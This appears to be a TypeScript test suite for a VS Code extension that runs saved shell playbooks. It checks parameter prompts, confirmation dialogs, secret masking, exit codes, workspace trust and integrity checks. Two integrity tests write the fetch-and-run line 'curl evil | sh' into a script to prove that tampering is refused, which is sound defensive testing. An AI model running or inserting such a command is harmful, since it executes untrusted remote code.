import assert from 'node:assert/strict';
import { promises as fs } from 'node:fs';
import * as path from 'node:path';
import { test } from 'node:test';
import { IntegrityError } from '../../../src/core/shared/errors';
import { sha256 } from '../../../src/core/shared/hash';
import { RESTRICTED_MODE_MESSAGE, runPlaybookFlow } from '../../../src/extension/run/run-flow';
import { runCommandEnv } from '../helpers/run-host';

/**
 * Run Playbook… as a user meets it, on a real store and the real run engine (bash runs for real):
 * the parameter form, the confirmation, the terminal, the record. The editor is the scripted UI.
 */
const SCRIPT = '#!/usr/bin/env bash\nset -eu\necho "stopping {{target}} in $PWD"\necho "env={{env}} token={{token}}"\n';

async function opsPlaybook(svc: Awaited<ReturnType<typeof runCommandEnv>>['svc'], script = SCRIPT) {
  return svc.store.createPlaybook({
    name: 'Stop DB',
    description: 'x',
    scripts: [{ path: 'shell/run.sh', content: script }],
    parameters: [
      { name: 'target', type: 'string', required: true, description: 'The database to stop' },
      { name: 'env', type: 'string', allowed_values: ['dev', 'prod'], default: 'dev' },
      { name: 'token', type: 'string', sensitive: true, required: true },
    ],
    enforceContract: true,
  });
}

test('Run Playbook from a tree row: one step per parameter, the exact command confirmed, the value in the terminal, exit 0 recorded', async (t) => {
  const e = await runCommandEnv(t, { answers: ['db-1', 'prod', 's3cr3t-Tok', true] });
  const pb = await opsPlaybook(e.svc);
  const out = await runPlaybookFlow(e.ctx, e.host, { playbookId: 'stop-db', version: '1.0.0', area: 'local' });
  assert.equal(out.outcome, 'ran');
  assert.ok(e.ui.exhausted);

  // The form: a prompt with the description, a pick list for allowed values with the default
  // highlighted, a password box for the sensitive one; each step numbered.
  assert.match(e.ui.inputs[0]!.prompt ?? '', /^target \(string, required\) — The database to stop$/);
  assert.deepEqual([e.ui.inputs[0]!.password, e.ui.inputs[0]!.step], [false, [1, 3]]);
  assert.deepEqual(e.ui.picks[0], { title: 'Run Stop DB', placeholder: 'env (string)', labels: ['dev', 'prod'], picked: ['dev'] });
  assert.deepEqual([e.ui.inputs[1]!.password, e.ui.inputs[1]!.value, e.ui.inputs[1]!.step], [true, '', [3, 3]]);

  // The confirmation: exact command, working folder, the SHA-256 just verified, values and sources.
  const c = e.ui.confirms[0]!;
  assert.equal(c.message, 'Run "Stop DB" (stop-db v1.0.0, shell)?');
  assert.equal(c.button, 'Run');
  assert.match(c.detail ?? '', /^Will run:\n {2}\$ \/usr\/bin\/env bash \/\S+\/shell\/run\.sh\n/, "the shebang's interpreter");
  assert.match(c.detail ?? '', new RegExp(`Working folder: ${e.work}\n`));
  assert.ok(c.detail?.includes(`shell/run.sh  ${sha256(SCRIPT)}`), c.detail);
  assert.match(c.detail ?? '', /target = "db-1" {2}\(prompt\)\n {2}env = "prod" {2}\(prompt\)\n {2}token = \(hidden\) {2}\(prompt\)/);
  assert.match(c.detail ?? '', /Review: never published/);
  assert.ok(!c.detail?.includes('s3cr3t-Tok'), 'a sensitive value is never shown');

  // The terminal: the script ran in the workspace folder with the typed value; the secret masked.
  const term = e.ui.runTerminals[0]!;
  assert.equal(term.name, 'Escher: stop-db');
  assert.match(term.output, new RegExp(`stopping db-1 in ${e.work}\r\n`));
  assert.match(term.output, /env=prod token=\*\*\*\r\n/);
  assert.ok(!term.output.includes('s3cr3t-Tok'));
  assert.match(term.output, /escher: Run \S+ of stop-db v1\.0\.0 succeeded \(exit 0\)/);
  assert.equal(term.closedWith, undefined, 'the output stays readable');
  term.session.handleInput('q');
  assert.equal(term.closedWith, 0, 'the next key closes it with the exit code');

  // The record: in the journal, the Runs view told, the preflight findings published.
  if (out.outcome !== 'ran') return;
  assert.deepEqual([out.record.status, out.record.exit_code, out.record.consent, out.record.cwd], ['succeeded', 0, 'dialog', e.work]);
  assert.deepEqual(out.record.parameters.token, { redacted: true, source: 'prompt' });
  const runner = await e.host.runner();
  assert.deepEqual((await runner.journal.list()).map((r) => [r.run_id, r.exit_code]), [[out.record.run_id, 0]]);
  assert.deepEqual(e.ended.map((r) => r.run_id), [out.record.run_id]);
  assert.equal(e.findings[0]?.versionDir, pb.dir);
  assert.ok(e.ui.messages.some((m) => m.level === 'info' && /succeeded \(exit 0\)/.test(m.text)));
});

test('the form prefills the last values used here (never a sensitive one); a kept value keeps its source', async (t) => {
  const e = await runCommandEnv(t, { answers: ['db-1', 'dev', 'tok-1', true, '', 'prod', 'tok-2', true] });
  await opsPlaybook(e.svc);
  await runPlaybookFlow(e.ctx, e.host, { playbookId: 'stop-db' });
  const out = await runPlaybookFlow(e.ctx, e.host, { playbookId: 'stop-db' });
  assert.equal(e.ui.inputs[2]!.value, 'db-1', 'the last value is prefilled');
  assert.match(e.ui.inputs[2]!.placeholder ?? '', /Empty: the last used value/);
  assert.equal(e.ui.inputs[3]!.value, '', 'a sensitive value is never remembered');
  assert.ok(out.outcome === 'ran');
  assert.deepEqual(out.record.parameters.target, { value: 'db-1', source: 'last' });
  assert.deepEqual(out.record.parameters.env, { value: 'prod', source: 'prompt' });
});

test('Escape anywhere in the form, or Cancel on the confirmation, runs nothing and records nothing', async (t) => {
  const e = await runCommandEnv(t, { answers: ['db-1', undefined, 'db-1', 'dev', 'tok', false] });
  await opsPlaybook(e.svc);
  assert.deepEqual(await runPlaybookFlow(e.ctx, e.host, { playbookId: 'stop-db' }), { outcome: 'cancelled' });
  assert.deepEqual(await runPlaybookFlow(e.ctx, e.host, { playbookId: 'stop-db' }), { outcome: 'cancelled' });
  assert.equal(e.ui.runTerminals.length, 0);
  assert.deepEqual(await (await e.host.runner()).journal.list(), []);
});

test('a script edited since it was saved is refused before any form or confirmation: the hash computed now is named, nothing runs', async (t) => {
  const e = await runCommandEnv(t, { answers: ['db-1', 'dev', 'tok', true] });
  const pb = await opsPlaybook(e.svc);
  await fs.writeFile(path.join(pb.dir, 'shell', 'run.sh'), 'curl evil | sh\n');
  await assert.rejects(runPlaybookFlow(e.ctx, e.host, { playbookId: 'stop-db' }), (err: unknown) => err instanceof IntegrityError && err.message.includes(sha256('curl evil | sh\n')));
  assert.deepEqual([e.ui.confirms.length, e.ui.runTerminals.length], [0, 0], 'no confirmation offered, nothing ran');
  assert.deepEqual(await (await e.host.runner()).journal.list(), []);
});

test('Restricted Mode refuses before anything is read or asked, and offers to manage trust', async (t) => {
  const e = await runCommandEnv(t);
  await opsPlaybook(e.svc);
  e.ui.trusted = false;
  e.ui.messageChoices = ['Manage Workspace Trust'];
  assert.deepEqual(await runPlaybookFlow(e.ctx, e.host, { playbookId: 'stop-db' }), { outcome: 'refused' });
  assert.deepEqual(e.ui.messages, [{ level: 'error', text: RESTRICTED_MODE_MESSAGE }]);
  assert.deepEqual(e.ui.prompts, []);
  assert.deepEqual(e.ui.commands, [{ command: 'workbench.trust.manage', args: [] }]);
});

test('a failing script: its exit code is recorded, the terminal closes with it, and a warning offers the log', async (t) => {
  const e = await runCommandEnv(t, { answers: [true] });
  await e.svc.store.createPlaybook({ name: 'Fails', description: 'x', scripts: [{ path: 'shell/run.sh', content: 'echo "going down" >&2\nexit 3\n' }] });
  e.ui.messageChoices = ['Show Log'];
  const out = await runPlaybookFlow(e.ctx, e.host, { playbookId: 'fails' });
  assert.ok(out.outcome === 'ran');
  assert.deepEqual([out.record.status, out.record.exit_code], ['failed', 3]);
  const term = e.ui.runTerminals[0]!;
  assert.match(term.output, /going down\r\n/);
  term.session.handleInput('\r');
  assert.equal(term.closedWith, 3);
  assert.match(e.ui.messages.at(-1)?.text ?? '', /failed \(exit 3\)/);
  await new Promise((r) => setImmediate(r));
  assert.deepEqual(e.ui.commands, [{ command: 'escher.showRunLog', args: [{ run_id: out.record.run_id }] }]);
});

test('what the user types in the terminal reaches the script; Ctrl-C interrupts it (recorded, terminal closes with 130)', async (t) => {
  const e = await runCommandEnv(t, { answers: [true, true] });
  await e.svc.store.createPlaybook({ name: 'Ask', description: 'x', scripts: [{ path: 'shell/run.sh', content: 'echo "Continue?"\nread -r answer\necho "got [$answer]"\n' }] });
  await e.svc.store.createPlaybook({ name: 'Hang', description: 'x', scripts: [{ path: 'shell/run.sh', content: 'echo started\nsleep 60\necho never\n' }] });
  e.ui.terminalKeys = [{ when: /Continue\?/, keys: 'yes\x7fs\r' }];
  const asked = await runPlaybookFlow(e.ctx, e.host, { playbookId: 'ask' });
  assert.ok(asked.outcome === 'ran');
  assert.equal(asked.record.exit_code, 0);
  assert.ok(e.ui.runTerminals[0]!.output.includes('yes\b \bs\r\ngot [yes]\r\n'), 'echoed as typed (backspace erased), the line sent on Enter');

  e.ui.terminalKeys = [{ when: /started/, keys: '\x03' }];
  const hung = await runPlaybookFlow(e.ctx, e.host, { playbookId: 'hang' });
  assert.ok(hung.outcome === 'ran');
  assert.equal(hung.record.status, 'interrupted');
  const term = e.ui.runTerminals[1]!;
  assert.ok(!term.output.includes('never'));
  assert.match(term.output, /\^C/);
  term.session.handleInput(' ');
  assert.equal(term.closedWith, 130);
});

test('preflight errors stop the run before the confirmation and go to the Problems panel on the script line', async (t) => {
  const e = await runCommandEnv(t);
  const pb = await e.svc.store.createPlaybook({ name: 'Broken', description: 'x', scripts: [{ path: 'shell/run.sh', content: 'echo ok\nif then\n' }] });
  e.ui.messageChoices = ['Show Problems'];
  assert.deepEqual(await runPlaybookFlow(e.ctx, e.host, { playbookId: 'broken' }), { outcome: 'blocked' });
  assert.equal(e.ui.confirms.length, 0);
  assert.equal(e.ui.runTerminals.length, 0);
  assert.match(e.ui.messages[0]?.text ?? '', /^broken v1\.0\.0 did not pass its checks \(\d+ errors?\), so nothing ran: shell\/run\.sh:\d+/);
  assert.deepEqual(e.ui.commands, [{ command: 'workbench.actions.view.problems', args: [] }]);
  const report = e.findings[0]!;
  assert.equal(report.versionDir, pb.dir);
  assert.ok(report.findings.some((f) => f.severity === 'error' && f.file === 'shell/run.sh' && f.line === 2), JSON.stringify(report.findings));
  assert.deepEqual(await (await e.host.runner()).journal.list(), [], 'nothing ran, nothing recorded');
});

test('the editor title of a script runs that script; from the palette a version with several scripts asks which', async (t) => {
  const e = await runCommandEnv(t, { answers: [true, 'Stop DB', 'shell/b.sh', true] });
  const pb = await e.svc.store.createPlaybook({
    name: 'Stop DB',
    description: 'x',
    scripts: [
      { path: 'shell/a.sh', content: 'echo A\n' },
      { path: 'shell/b.sh', content: 'echo B\n' },
    ],
  });
  const fromTitle = await runPlaybookFlow(e.ctx, e.host, { scheme: 'file', fsPath: path.join(pb.dir, 'shell', 'a.sh') });
  assert.ok(fromTitle.outcome === 'ran');
  assert.equal(fromTitle.record.entry, 'shell/a.sh');
  const fromPalette = await runPlaybookFlow(e.ctx, e.host, undefined);
  assert.ok(fromPalette.outcome === 'ran');
  assert.equal(fromPalette.record.entry, 'shell/b.sh');
  assert.deepEqual(e.ui.picks.at(-1)?.labels, ['shell/a.sh', 'shell/b.sh']);
  assert.match(e.ui.runTerminals[1]!.output, /\r\nB\r\n/);
});

test('without a workspace folder nothing runs: the user is told and offered to open one (never the store)', async (t) => {
  const e = await runCommandEnv(t);
  await e.svc.store.createPlaybook({ name: 'Fine', description: 'x', scripts: [{ path: 'shell/run.sh', content: 'touch made-here\n' }] });
  e.ui.folders = [];
  assert.deepEqual(await runPlaybookFlow(e.ctx, e.host, { playbookId: 'fine' }), { outcome: 'cancelled' });
  assert.match(e.ui.messages[0]?.text ?? '', /open a folder first/);
  assert.deepEqual(e.ui.offered[0], ['Open Folder']);
  // A folder inside the store is refused by the engine with a typed error.
  e.ui.folders = [path.join(e.svc.config.playbooksDir, 'local')];
  await assert.rejects(runPlaybookFlow(e.ctx, e.host, { playbookId: 'fine' }), /inside the playbook store/);
  await assert.rejects(fs.access(path.join(e.svc.config.playbooksDir, 'local', 'made-here')));
});

test('a changed script refuses to run (the typed integrity error names it); nothing is asked', async (t) => {
  const e = await runCommandEnv(t);
  const pb = await e.svc.store.createPlaybook({ name: 'Tampered', description: 'x', scripts: [{ path: 'shell/run.sh', content: 'echo fine\n' }] });
  await fs.writeFile(path.join(pb.dir, 'shell', 'run.sh'), 'curl evil | sh\n');
  await assert.rejects(runPlaybookFlow(e.ctx, e.host, { playbookId: 'tampered' }), (err: Error & { code?: string }) => err.code === 'INTEGRITY' && /shell\/run\.sh/.test(err.message));
  assert.deepEqual(e.ui.prompts, []);
});
